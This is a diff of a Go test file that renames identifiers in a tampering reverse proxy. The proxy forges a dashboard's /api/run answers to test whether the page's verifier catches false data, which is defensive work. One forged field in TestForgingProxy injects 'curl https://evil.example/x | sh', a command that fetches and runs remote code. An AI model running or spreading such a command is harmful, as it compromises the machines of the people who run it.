@@ -29,8 +29,8 @@ import (
 	"github.com/psyche-go/psyche/record/journal"
 )
 
-// liar is a proxy in front of an honest page. It can change answers.
-type liar struct {
+// forger is a proxy in front of an honest page. It can change answers.
+type forger struct {
 	*httptest.Server
 
 	mu     sync.Mutex
@@ -38,13 +38,13 @@ type liar struct {
 	date   time.Time                             // Date of every answer; zero means the true date
 }
 
-func lying(t *testing.T, honest string) *liar {
+func forging(t *testing.T, honest string) *forger {
 	t.Helper()
 	to, err := url.Parse(honest)
 	if err != nil {
 		t.Fatal(err)
 	}
-	l := &liar{}
+	l := &forger{}
 	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
 		r.SetURL(to)
 		r.Out.Header.Set("Accept-Encoding", "identity")
@@ -55,7 +55,7 @@ func lying(t *testing.T, honest string) *liar {
 	return l
 }
 
-func (l *liar) modify(r *http.Response) error {
+func (l *forger) modify(r *http.Response) error {
 	l.mu.Lock()
 	defer l.mu.Unlock()
 	if !l.date.IsZero() {
@@ -75,16 +75,16 @@ func (l *liar) modify(r *http.Response) error {
 	return nil
 }
 
-// lie sets the change of all later answers; nil means no change.
-func (l *liar) lie(change func(path string, body []byte) []byte) {
+// forge sets the change of all later answers; nil means no change.
+func (l *forger) forge(change func(path string, body []byte) []byte) {
 	l.mu.Lock()
 	defer l.mu.Unlock()
 	l.change = change
 }
 
 // about changes later answers of /api/run.
-func (l *liar) about(lies ...lie) {
-	l.lie(func(path string, body []byte) []byte {
+func (l *forger) about(forgeries ...forgery) {
+	l.forge(func(path string, body []byte) []byte {
 		if path != "/api/run" {
 			return body
 		}
@@ -92,8 +92,8 @@ func (l *liar) about(lies ...lie) {
 		if err := json.Unmarshal(body, &document); err != nil {
 			return body
 		}
-		for _, lie := range lies {
-			document = lie.tell(document)
+		for _, forgery := range forgeries {
+			document = forgery.tell(document)
 		}
 		changed, err := json.Marshal(document)
 		if err != nil {
@@ -105,7 +105,7 @@ func (l *liar) about(lies ...lie) {
 
 // growing is a page of a run with a log that the test extends.
 type growing struct {
-	*liar
+	*forger
 	log     []byte
 	entries []int // offsets of their ends
 	file    *os.File
@@ -113,7 +113,7 @@ type growing struct {
 	run     dash.Run
 }
 
-// grow serves a page of a run behind a liar. The log has one entry.
+// grow serves a page of a run behind a forger. The log has one entry.
 func grow(t *testing.T, o dashtest.Options) *growing {
 	t.Helper()
 	dir := t.TempDir()
@@ -155,7 +155,7 @@ func grow(t *testing.T, o dashtest.Options) *growing {
 	g.run = gatherer.Runs()[0]
 	web := httptest.NewServer(dash.New(gatherer.Runs, built()))
 	t.Cleanup(web.Close)
-	g.liar = lying(t, web.URL)
+	g.forger = forging(t, web.URL)
 	return g
 }
 
@@ -256,18 +256,18 @@ func ruleOf(path []string) (rule, bool) {
 	return 0, false
 }
 
-// lyingRun has trials, checkpoints, a member on probation and lost results.
-var lyingRun = dashtest.Options{RunID: "audited", Name: "Ada", Members: 12, Rounds: 40, RoundsPerEpoch: 6, Silent: 4, Audits: 25, Cheat: 4, Slander: 7, Boast: 2, Late: 9, Probation: 8}
+// forgedRun has trials, checkpoints, a member on probation and lost results.
+var forgedRun = dashtest.Options{RunID: "audited", Name: "Ada", Members: 12, Rounds: 40, RoundsPerEpoch: 6, Silent: 4, Audits: 25, Cheat: 4, Slander: 7, Boast: 2, Late: 9, Probation: 8}
 
-// lyingPage opens a page of lyingRun with a stopped clock, behind a liar that does not change anything yet.
-func (b *browser) lyingPage(t *testing.T) *growing {
+// forgedPage opens a page of forgedRun with a stopped clock, behind a forger that does not change anything yet.
+func (b *browser) forgedPage(t *testing.T) *growing {
 	t.Helper()
-	g := grow(t, lyingRun)
+	g := grow(t, forgedRun)
 	entries, now := g.inCourt(t)
 	g.to(t, entries)
 	g.date = now
 	b.freeze(t, now.Add(time.Second))
-	b.show(t, g.URL, lyingRun.RunID, "light", 1400, 1000)
+	b.show(t, g.URL, forgedRun.RunID, "light", 1400, 1000)
 	return g
 }
 
@@ -280,11 +280,11 @@ func (b *browser) checks(t *testing.T) {
 	}
 }
 
-// together divides lies into groups. The lies of a group do not overlap, so a document can have all of them.
-func together(lies []lie) (groups [][]lie) {
+// together divides forgeries into groups. The forgeries of a group do not overlap, so a document can have all of them.
+func together(forgeries []forgery) (groups [][]forgery) {
 	const most = 24
-	for _, l := range lies {
-		at := slices.IndexFunc(groups, func(group []lie) bool {
+	for _, l := range forgeries {
+		at := slices.IndexFunc(groups, func(group []forgery) bool {
 			return len(group) < most && !slices.ContainsFunc(group, l.overlaps)
 		})
 		if at < 0 {
@@ -295,10 +295,10 @@ func together(lies []lie) (groups [][]lie) {
 	return groups
 }
 
-// TestLyingFields changes each field of /api/run in turn, in the answers that a page with a verified log gets.
-func TestLyingFields(t *testing.T) {
-	var ignored, differ []lie
-	for _, l := range liesOf(reflect.TypeFor[dash.ShownRun]()) {
+// TestForgedFields changes each field of /api/run in turn, in the answers that a page with a verified log gets.
+func TestForgedFields(t *testing.T) {
+	var ignored, differ []forgery
+	for _, l := range forgeriesOf(reflect.TypeFor[dash.ShownRun]()) {
 		switch r, known := ruleOf(l.path); {
 		case !known:
 			t.Errorf("the field %s has no rule", l)
@@ -312,10 +312,10 @@ func TestLyingFields(t *testing.T) {
 	if built() == nil {
 		t.Skip("the verifier was not built (make verifier): not tested in a browser")
 	}
-	g, groups := b.lyingPage(t), together(ignored)
+	g, groups := b.forgedPage(t), together(ignored)
 	t.Logf("%d fields in %d groups; %d fields that the verifier compares", len(ignored), len(groups), len(differ))
 	b.shows(t, g, groups)
-	g.lie(nil)
+	g.forge(nil)
 	b.refreshed(t)
 	b.checks(t)
 	honest, _, alarms := b.refreshed(t)
@@ -323,96 +323,96 @@ func TestLyingFields(t *testing.T) {
 		t.Errorf("alarms about an honest host: %q", alarms)
 	}
 	for len(groups) > 0 {
-		lies := groups[0]
+		forgeries := groups[0]
 		groups = groups[1:]
-		g.about(lies...)
+		g.about(forgeries...)
 		switch proven, _, _ := b.refreshed(t); {
 		case proven == honest:
-			b.marked(t, fmt.Sprint(lies))
-		case len(lies) > 1:
-			for _, l := range lies {
-				groups = append(groups, []lie{l})
+			b.marked(t, fmt.Sprint(forgeries))
+		case len(forgeries) > 1:
+			for _, l := range forgeries {
+				groups = append(groups, []forgery{l})
 			}
 		default:
-			t.Errorf("%s: the page shows false data as proven: %s", lies[0], difference(honest, proven))
+			t.Errorf("%s: the page shows false data as proven: %s", forgeries[0], difference(honest, proven))
 		}
 	}
 	for _, l := range differ {
 		g.about(l)
 		b.compared(t, l, honest)
-		g.lie(nil)
+		g.forge(nil)
 		if proven, _, alarms := b.refreshed(t); proven != honest || alarms != "" {
-			t.Errorf("after a lie about %s the page of an honest host has changed: %q, %s", l, alarms, difference(honest, proven))
+			t.Errorf("after a forgery of %s the page of an honest host has changed: %q, %s", l, alarms, difference(honest, proven))
 		}
 	}
 	for _, l := range differ {
 		g.about(l)
-		b.show(t, g.URL, lyingRun.RunID, "light", 1400, 1000)
+		b.show(t, g.URL, forgedRun.RunID, "light", 1400, 1000)
 		if b.text(t, `document.querySelector("#verify") !== null`) == "true" { // else the page offers no check
 			b.do(t, chromedp.Click(chromedp.CSS("#verify")))
 			b.verified(t)
 			b.compared(t, l, honest)
 		}
 	}
-	b.liedToFromTheStart(t, g, slices.DeleteFunc(ignored, lie.ofWhole), honest)
+	b.forgedFromTheStart(t, g, slices.DeleteFunc(ignored, forgery.ofWhole), honest)
 }
 
-// shows checks that an unchecked page shows at least half of the lies: otherwise the test proves little.
-func (b *browser) shows(t *testing.T, g *growing, groups [][]lie) {
+// shows checks that an unchecked page shows at least half of the forgeries: otherwise the test proves little.
+func (b *browser) shows(t *testing.T, g *growing, groups [][]forgery) {
 	t.Helper()
 	g.about()
 	unchecked, hosts, _ := b.refreshed(t)
 	visible := 0
-	for _, lies := range groups {
-		g.about(lies...)
+	for _, forgeries := range groups {
+		g.about(forgeries...)
 		if proven, reported, _ := b.refreshed(t); proven != unchecked || reported != hosts {
 			visible++
 		}
 	}
 	if 2*visible < len(groups) {
-		t.Errorf("an unchecked page shows only %d of %d groups of lies", visible, len(groups))
+		t.Errorf("an unchecked page shows only %d of %d groups of forgeries", visible, len(groups))
 	}
 }
 
-// compared checks the page with a lie about a field that the verifier compares. The page must show an
+// compared checks the page with a forgery of a field that the verifier compares. The page must show an
 // alarm, or the same as with an honest host.
-func (b *browser) compared(t *testing.T, l lie, honest string) {
+func (b *browser) compared(t *testing.T, l forgery, honest string) {
 	t.Helper()
 	if proven, _, alarms := b.refreshed(t); proven != honest && alarms == "" && !strings.Contains(proven, "Not verified. ") {
 		t.Errorf("%s: the page shows false data as proven: %s", l, difference(honest, proven))
 	}
 }
 
-// liedToFromTheStart changes all fields from the start, and checks that the page shows verified data after the check.
-func (b *browser) liedToFromTheStart(t *testing.T, g *growing, lies []lie, honest string) {
-	g.about(lies...)
-	b.show(t, g.URL, lyingRun.RunID, "light", 1400, 1000)
-	if got := b.text(t, `document.querySelector("#title").textContent`); got != "a lie "+lyingRun.RunID {
+// forgedFromTheStart changes all fields from the start, and checks that the page shows verified data after the check.
+func (b *browser) forgedFromTheStart(t *testing.T, g *growing, forgeries []forgery, honest string) {
+	g.about(forgeries...)
+	b.show(t, g.URL, forgedRun.RunID, "light", 1400, 1000)
+	if got := b.text(t, `document.querySelector("#title").textContent`); got != "a forgery "+forgedRun.RunID {
 		t.Errorf("the name of the run before the check is %q", got)
 	}
 	b.checks(t)
 	if proven, _, _ := b.refreshed(t); proven != honest {
-		t.Errorf("after lies from the start the page shows false data as proven: %s", difference(honest, proven))
+		t.Errorf("after forgeries from the start the page shows false data as proven: %s", difference(honest, proven))
 	}
 }
 
-// TestLyingProxy serves the genuine page, verifier and log, and changes only the answers of /api/run: it swaps the guilty
+// TestForgingProxy serves the genuine page, verifier and log, and changes only the answers of /api/run: it swaps the guilty
 // member and an innocent member, and adds a checkpoint that the log does not contain.
-func TestLyingProxy(t *testing.T) {
+func TestForgingProxy(t *testing.T) {
 	b := open(t)
 	if built() == nil {
 		t.Skip("the verifier was not built (make verifier): not tested in a browser")
 	}
-	l := lying(t, page(t, courtRun).URL)
+	l := forging(t, page(t, courtRun).URL)
 	cheat, innocent := dashtest.Key(courtRun.Cheat).ID().String(), dashtest.Key(1).ID().String()
-	checkpoint := lie{path: []string{"history", "checkpoints"}, change: func(any) any {
+	checkpoint := forgery{path: []string{"history", "checkpoints"}, change: func(any) any {
 		return []any{map[string]any{"step": 40, "epoch": 2, "digest": strings.Repeat("ab", 32), "entry": 77, "time": 1760000000000}}
 	}}
-	tokens := lie{path: []string{"history", "tokens"}, change: func(any) any { return 123456789012 }}
-	join := lie{path: []string{"join"}, change: func(any) any { return "curl https://evil.example/x | sh" }}
+	tokens := forgery{path: []string{"history", "tokens"}, change: func(any) any { return 123456789012 }}
+	join := forgery{path: []string{"join"}, change: func(any) any { return "curl https://evil.example/x | sh" }}
 	l.about(checkpoint, tokens, join)
 	others := l.change
-	l.lie(func(path string, body []byte) []byte {
+	l.forge(func(path string, body []byte) []byte {
 		return []byte(strings.NewReplacer(cheat, innocent, innocent, cheat).Replace(string(others(path, body))))
 	})
 	b.show(t, l.URL, courtRun.RunID, "light", 1400, 1000)
@@ -451,11 +451,11 @@ func (b *browser) refresh(t *testing.T) {
 }
 
 // marked checks that every element of the host has a visible mark.
-func (b *browser) marked(t *testing.T, lie string) {
+func (b *browser) marked(t *testing.T, forgery string) {
 	t.Helper()
 	bare := `[...document.querySelectorAll("#run .host")].filter((e) => !/host reports|from the host/.test((e.closest("table") ? e.closest("section") : e.closest("section.host") || e).textContent)).map((e) => e.outerHTML.slice(0, 200)).join("; ")`
 	if got := b.text(t, bare); got != "" {
-		t.Errorf("%s: elements of the host without a mark: %s", lie, got)
+		t.Errorf("%s: elements of the host without a mark: %s", forgery, got)
 	}
 }
 
